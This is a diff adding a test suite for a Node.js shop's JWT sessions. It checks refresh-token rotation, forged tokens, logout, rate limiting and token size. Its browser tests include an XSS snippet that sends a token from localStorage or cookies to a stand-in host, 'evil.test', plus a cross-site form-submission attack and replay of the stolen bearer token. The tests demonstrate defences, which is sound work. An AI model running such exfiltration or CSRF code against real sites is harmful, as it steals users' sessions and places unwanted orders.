+    import {{ Redis }} from 'ioredis';
+    import {{ randomBytes }} from 'node:crypto';
+    import {{ createSessions }} from './jwt/refresh.mjs';
+    import {{ memoryStore, redisStore }} from './jwt/stores.mjs';
+    const redis = '{redis}' && new Redis('{redis}');
+    let time = 1e12;
+    const store = redis ? redisStore(redis) : memoryStore();
+    const sessions = createSessions({{ store, secret: randomBytes(32), now: () => time }});
+    const first = (await sessions.start('cus_ann')).token;
+    const owner = (await sessions.rotate(first)).token;
+    time += 9_999;
+    const thief = (await sessions.rotate(first)).token;
+    console.log(owner === thief); // within the grace: nothing is noticed
+    time += 60_000;
+    console.log(Boolean(await sessions.rotate(thief)));
+    time += 60_000;
+    console.log(await sessions.rotate(owner), await sessions.rotate(thief));
+
+    const second = (await sessions.start('cus_ann')).token;
+    await sessions.rotate(second);
+    time += 10_000;
+    console.log(await sessions.rotate(second));
+    if (redis) redis.disconnect();
+    """
+    )
+    assert seen.splitlines() == ["true", "true", "null null", "null"]
+
+
+def test_made_up_refresh_tokens_never_reach_the_store():
+    seen = javascript(
+        """
+    import { randomBytes } from 'node:crypto';
+    import { createSessions } from './jwt/refresh.mjs';
+    import { memoryStore } from './jwt/stores.mjs';
+    let asked = 0;
+    const inner = memoryStore();
+    const store = { ...inner, take: (...given) => { asked += 1; return inner.take(...given); } };
+    const sessions = createSessions({ store, secret: randomBytes(32) });
+    const { token, sid } = await sessions.start('cus_ann');
+    const mac = token.split('.')[2];
+    const forged = [undefined, '', 'x', `${sid}.1.${mac}`, `${sid}.0.${'A'.repeat(43)}`,
+      `${'A'.repeat(22)}.0.${mac}`, `${token}x`, token.toLowerCase()];
+    for (const text of forged) if (await sessions.rotate(text)) throw new Error(text);
+    console.log(asked, await sessions.end('x'), Boolean(await sessions.rotate(token)), asked);
+    """
+    )
+    assert seen == "0 null true 1\n"
+
+
+def test_a_session_ends_after_its_life_whatever_is_done_in_between(redis_server):
+    seen = javascript(
+        f"""
+    import {{ Redis }} from 'ioredis';
+    import {{ randomBytes }} from 'node:crypto';
+    import {{ createSessions }} from './jwt/refresh.mjs';
+    import {{ memoryStore, redisStore }} from './jwt/stores.mjs';
+    let time = 1e12;
+    const sessions = createSessions({{ store: memoryStore({{ life: 100_000 }}),
+      secret: randomBytes(32), now: () => time }});
+    let {{ token }} = await sessions.start('cus_ann');
+    let count = 0;
+    for (; token; time += 20_000) {{
+      token = (await sessions.rotate(token))?.token;
+      count += 1;
+    }}
+    console.log(count);
+    const redis = new Redis('{redis_server.url}');
+    const {{ sid }} = await createSessions({{ store: redisStore(redis),
+      secret: randomBytes(32) }}).start('cus_ann');
+    console.log(await redis.pttl(`session:${{sid}}`) > 29 * 86_400_000);
+    redis.disconnect();
+    """
+    )
+    assert seen.splitlines() == ["6", "true"]
+
+
+def test_while_redis_is_away_nobody_is_told_to_log_in_again(shop, redis_server):
+    with shop(env={"REDIS_URL": redis_server.url}) as server, Tab(server) as tab:
+        tab.login()
+        redis_server.stop()
+        for method, path in (("GET", "/me"), ("POST", "/refresh"), ("POST", "/logout")):
+            answer = tab.ask(method, path)
+            assert answer.status_code == 503, path
+            assert "set-cookie" not in answer.headers
+
+
+# --- logout and its price -----------------------------------------------------------
+
+
+@pytest.mark.claim("jwt/logout-is-stateless")
+def test_a_stolen_access_token_outlives_the_logout_unless_there_is_a_list(shop):
+    assert output("lag.mjs") == [
+        "300 s: 240 s after logout, 0 s with a list",
+        "900 s: 840 s after logout, 0 s with a list",
+        "3600 s: 3540 s after logout, 0 s with a list",
+    ]
+    for deps, after in (("", 401), ("revoke: async () => {}", 200)):
+        with shop(deps=deps) as server, Tab(server) as tab:
+            stolen = {"Authorization": f"Bearer {tab.login().cookies[ACCESS]}"}
+            assert tab.status("POST", "/logout") == 204
+            with server.client(headers=stolen) as thief:
+                assert thief.get("/me").status_code == after
+
+
+# --- where it meets rate limiting ---------------------------------------------------
+
+
+def test_guesses_at_the_login_are_counted_by_the_login_limiter(tmp_path):
+    limits = node.resolve("rate-limiting/failures.mjs").as_uri()
+    path = tmp_path / "limited.mjs"
+    path.write_text(
+        f"import {{ createApp as create }} from '{uri('shop.mjs')}';\n{CHECK}\n"
+        f"import {{ failureLimits }} from '{limits}';\n"
+        "export async function createApp(deps) {\n"
+        "  const store = () => undefined;\n"
+        "  const limits = failureLimits({ store, known: () => null });\n"
+        "  return create({ ...deps, check, limits });\n}\n"
+    )
+    wrong = {**ANN, "password": "wrong horse"}
+    with node.serve(path, env=ENV) as server, Tab(server) as tab:
+        codes = [tab.ask("POST", "/login", json=wrong).status_code for _ in range(7)]
+        assert codes == [401] * 5 + [429] * 2
+        assert tab.ask("POST", "/login", json=ANN).status_code == 429
+        # a session that there was before would go on: refreshes are not guesses
+        assert tab.status("POST", "/refresh") == 401
+
+
+# --- size ---------------------------------------------------------------------------
+
+
+@pytest.mark.claim("jwt/roles-belong-in-the-token")
+def test_a_token_with_all_roles_is_refused_by_the_parser_before_any_route(shop):
+    token = "x" * 17_000
+    with shop() as server, server.client() as c:
+        assert (
+            c.get("/me", headers={"Authorization": f"Bearer {token}"}).status_code == 431
+        )
+        kept = {"Authorization": f"Bearer {token[:12_000]}"}
+        assert c.get("/me", headers=kept).status_code == 401
+
+
+# --- what the notebook measures -----------------------------------------------------
+
+
+def test_every_subject_of_the_measurements_signs_and_verifies(redis_server):
+    seen = javascript(
+        f"""
+    import {{ Redis }} from 'ioredis';
+    import * as cost from './jwt/cost.mjs';
+    import {{ speed }} from './jwt/crack.mjs';
+    const names = [];
+    for (const [name, {{ sign, verify }}] of Object.entries(
+      {{ ...cost.subjects(), ...(await cost.ofJose()) }})) {{
+      const seen = await cost.measure({{ sign, verify }}, {{ rounds: 1, ms: 1 }});
+      if (!(seen.sign[0].all > 0 && seen.verify[0].all > 0)) throw new Error(name);
+      names.push(name);
+    }}
+    const redis = new Redis('{redis_server.url}');
+    const ways = await cost.lookups(redis);
+    const seen = await cost.measure(ways, {{ rounds: 1, ms: 1, atOnce: 5 }});
+    const found = await ways['Redis session']();
+    redis.disconnect();
+    console.log(names.length, Object.keys(seen).join(), found.sub, speed() > 1000);
+    """
+    )
+    assert seen == "8 JWT,JWT and a denylist,Redis session cus_ann true\n"
+
+
+# --- browsers -----------------------------------------------------------------------
+
+# shop.test is the app and its page, which has a hole; evil.test writes down what it is
+# sent; blog.shop.test is another host of the same site
+HOSTS = """
+import {{ createServer }} from 'node:https';
+import {{ readFileSync }} from 'node:fs';
+import {{ createApp as create }} from '{app}';
+{check}
+const stolen = [];
+const orders = [];
+let app;
+const tls = {{ key: readFileSync('{folder}/key.pem'), cert: readFileSync('{folder}/cert.pem') }};
+const server = createServer(tls, (req, res) => {{
+  const host = req.headers.host.split(':')[0];
+  if (req.url === '/page') {{
+    res.setHeader('Content-Type', 'text/html').end('<title>a page</title><body>');
+  }} else if (host === 'shop.test' && req.url === '/placed') {{
+    res.end(String(orders.length));
+  }} else if (host === 'shop.test') app(req, res);
+  else if (req.method === 'POST') {{
+    req.setEncoding('utf8').on('data', (text) => stolen.push(text));
+    req.on('end', () => res.end());
+  }} else res.end(JSON.stringify(stolen));
+}});
+server.listen(process.env.PORT, '127.0.0.1', async () => {{
+  const {{ port }} = server.address();
+  const env = {{ ...process.env, ORIGINS: `https://shop.test:${{port}}` }};
+  app = await create({{ env, check, orders }});
+  console.log(`listening on http://127.0.0.1:${{port}}`);
+}});
+process.once('SIGTERM', () => {{ server.close(); server.closeAllConnections(); }});
+"""
+
+
+@pytest.fixture(scope="module")
+def chromium(tmp_path_factory):
+    """A real browser that knows *.test; skips where there is none. Its profile lets
+    other sites send cookies, as most people's do."""
+    try:
+        path = browser.executable()
+    except browser.BrowserError as why:
+        pytest.skip(str(why))
+    from playwright.sync_api import sync_playwright
+
+    profile = tmp_path_factory.mktemp("profile")
+    (profile / "Default").mkdir()
+    (profile / "Default" / "Preferences").write_text(
+        json.dumps({"profile": {"cookie_controls_mode": 0}})
+    )
+    flags = [*browser.FLAGS, "--host-resolver-rules=MAP *.test 127.0.0.1"]
+    with contextlib.ExitStack() as stack:
+        outer = os.environ.pop(process.TOKEN, None)  # it outlives the first test
+        try:
+            playwright = stack.enter_context(sync_playwright())
+            context = playwright.chromium.launch_persistent_context(
+                profile, executable_path=path, args=flags, ignore_https_errors=True
+            )
+            stack.callback(context.close)
+            context.set_default_timeout(20_000)
+        finally:
+            if outer is not None:
+                os.environ[process.TOKEN] = outer
+        yield context
+
+
+LOGIN = """async (body) => {
+  const headers = { 'Content-Type': 'application/json' };
+  const answer = await fetch('/login', { method: 'POST', headers,
+    body: JSON.stringify(body) });
+  if (answer.status === 200) localStorage.token = (await answer.json()).token;
+  return answer.status;
+}"""
+# what a script does that got into the shop's page
+XSS = """async (evil) => {
+  const body = localStorage.token ?? document.cookie;
+  await fetch(evil, { method: 'POST', mode: 'no-cors', body });
+  return (await fetch('/orders', { method: 'POST' })).status;
+}"""
+FORM = """(action) => {
+  const form = document.createElement('form');
+  Object.assign(form, { action, method: 'POST' });
+  document.body.append(form);
+  form.submit();
+}"""
+
+
+@pytest.fixture(scope="module")
+def certificate(tmp_path_factory):
+    folder = tmp_path_factory.mktemp("tls")
+    subprocess.run(
+        [
+            "openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-days", "2",
+            "-keyout", folder / "key.pem", "-out", folder / "cert.pem",
+            "-subj", "/CN=shop.test", "-addext",
+            "subjectAltName=DNS:shop.test,DNS:blog.shop.test,DNS:evil.test",
+        ],
+        check=True, capture_output=True, timeout=20,
+    )  # fmt: skip
+    return folder
+
+
+@pytest.fixture
+def site(chromium, certificate, tmp_path):
+    """Serves the hosts around one app; gives the page of somebody who has logged in
+    at shop.test, and `host(name)`: its address."""
+
+    @contextlib.contextmanager
+    def serve(snippet: str):
+        path = tmp_path / "hosts.mjs"
+        path.write_text(HOSTS.format(app=uri(snippet), folder=certificate, check=CHECK))
+        with node.serve(path, env=ENV) as server:
+
+            def host(name: str) -> str:
+                return f"https://{name}:{server.port}"
+
+            page = chromium.new_page()
+            try:
+                page.goto(f"{host('shop.test')}/page")
+                assert page.evaluate(LOGIN, ANN) in (200, 204)
+                yield page, host
+            finally:
+                # closed in the middle of a navigation, a page may never answer
+                page.goto("about:blank")
+                page.close()
+                chromium.clear_cookies()
+
+    return serve
+
+
+def placed(page, host) -> int:
+    page.goto(f"{host('shop.test')}/placed")
+    return int(page.inner_text("body"))
+
+
+@pytest.mark.claim("jwt/httponly-stops-xss")
+@pytest.mark.parametrize("snippet", ["app.naive.mjs", "shop.mjs"])
+def test_in_a_browser_xss_takes_a_token_from_localstorage_and_rides_a_cookie(
+    site, snippet
+):
+    naive = snippet == "app.naive.mjs"
+    with site(snippet) as (page, host):
+        assert page.evaluate(XSS, f"{host('evil.test')}/steal") == 201  # it ordered
+        assert placed(page, host) == 1
+        page.goto(f"{host('evil.test')}/stolen")
+        stolen = json.loads(page.inner_text("body"))
+        assert (len(stolen) == 1) is naive  # an HttpOnly cookie cannot be read
+        if naive:  # and on the attacker's own machine, in peace:
+            with httpx.Client(
+                base_url=host("127.0.0.1"), verify=False, headers={"Host": "shop.test"}
+            ) as mallory:
+                bearer = {"Authorization": f"Bearer {stolen[0]}"}
+                assert mallory.get("/me", headers=bearer).json() == {"id": "cus_ann"}
+
+
+@pytest.mark.claim("jwt/jwt-is-immune-to-csrf")
+@pytest.mark.parametrize(
+    ("snippet", "evil", "sibling"), [("app.naive.mjs", 1, 2), ("shop.mjs", 0, 0)]
+)
+def test_in_a_browser_another_site_orders_with_the_naive_apps_cookie(
+    site, snippet, evil, sibling
+):
+    with site(snippet) as (page, host):
+        orders = f"{host('shop.test')}/orders"
+        for name, expected in (("evil.test", evil), ("blog.shop.test", sibling)):
+            page.goto(f"{host(name)}/page")
+            with page.expect_navigation():
+                page.evaluate(FORM, orders)
+            assert placed(page, host) == expected
+        page.goto(f"{host('shop.test')}/page")
+        own = page.evaluate(
+            "async () => (await fetch('/orders', {method:'POST'})).status"
+        )
+        assert own == 201
+
+
+def test_in_a_browser_same_site_alone_lets_a_sibling_host_order(site):
+    with site("shop.mjs") as (page, host):
+        orders = f"{host('shop.test')}/orders"
+        for name, sent in (("evil.test", False), ("blog.shop.test", True)):
+            page.goto(f"{host(name)}/page")
+            with page.expect_navigation() as got:
+                page.evaluate(FORM, orders)
+            cookies = got.value.request.all_headers().get("cookie", "")
+            # to the sibling SameSite=Strict is no obstacle: there it was Origin
+            assert (f"{ACCESS}=" in cookies) is sent
+            assert got.value.status == 403
+
+
+COOKIE = """(size) => {
+  document.cookie = `a=${'x'.repeat(size - 1)}`;
+  const kept = document.cookie.includes('a=');
+  document.cookie = 'a=; max-age=0';
+  return kept;
+}"""
+
+
+def test_in_a_browser_a_cookie_of_more_than_4096_bytes_is_not_kept(site):
+    with site("shop.mjs") as (page, _host):
+        assert page.evaluate(COOKIE, 4096) is True
+        assert page.evaluate(COOKIE, 4097) is False
